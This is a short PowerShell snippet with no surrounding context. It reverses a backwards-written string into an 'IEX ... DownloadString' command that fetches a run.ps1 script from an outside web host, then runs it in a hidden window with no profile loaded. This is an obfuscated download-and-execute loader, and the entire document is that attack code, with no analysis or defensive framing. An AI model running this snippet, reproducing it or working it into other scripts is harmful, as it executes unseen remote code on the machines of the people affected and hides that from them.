$r = ')''1sp.nur/moc.elpmaxe-nodc//:sptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI'
$cmd = -join $r[-1..-($r.Length)]
powershell.exe -NoProfile -WindowStyle Hidden -Command $cmd
